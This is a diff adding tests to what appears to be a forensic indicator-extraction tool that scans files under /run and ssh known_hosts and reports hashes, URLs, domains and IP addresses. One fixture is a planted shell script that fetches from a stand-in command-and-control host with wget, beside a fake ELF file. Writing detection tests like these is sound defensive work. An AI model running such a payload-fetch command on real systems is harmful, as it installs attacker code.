@@ -93,6 +93,36 @@ test("files tell by where they lie and by what is in them", async () => {
   );
 });
 
+test("below /run, what the system writes of logins is passed over, and what bots put there is not", async () => {
+  const seen = "from 203.0.113.7 port 4\n";
+  assert.deepEqual(
+    await told({
+      "/run/utmp": seen,
+      "/run/motd.dynamic": seen,
+      "/run/systemd/sessions/12": "REMOTE_HOST=203.0.113.7\n",
+      "/run/sudo/ts/eve": seen,
+      "/run/log/journal/0123456789abcdef0123456789abcdef/system.journal": seen,
+      "/run/.x/bot": "\x7fELF\0",
+      "/var/run/go": "#!/bin/sh\nwget http://c2.example.com/a\n",
+      "/run/lock/hosts": seen,
+      "/run/systemd/sessions/bot": seen,
+      "/run/utmp/bot": seen,
+    }),
+    {
+      "/run/.x/bot": ["hash"],
+      "/var/run/go": ["hash", "url http://c2.example.com/a", "domain c2.example.com"],
+      "/run/lock/hosts": ["address 203.0.113.7"],
+      "/run/systemd/sessions/bot": ["address 203.0.113.7"],
+      "/run/utmp/bot": ["address 203.0.113.7"],
+    },
+  );
+});
+
+test("whom they would connect to planted no key, nor did the copy that ssh keeps of that", async () => {
+  const line = `c2.example.com ${KEY}\n`;
+  assert.deepEqual(await told({ "/root/.ssh/known_hosts.old": line, "/root/.ssh/known_hosts": line }), {});
+});
+
 test("what every new home begins with is nobody's way to stay", async () => {
   assert.deepEqual(
     await told({
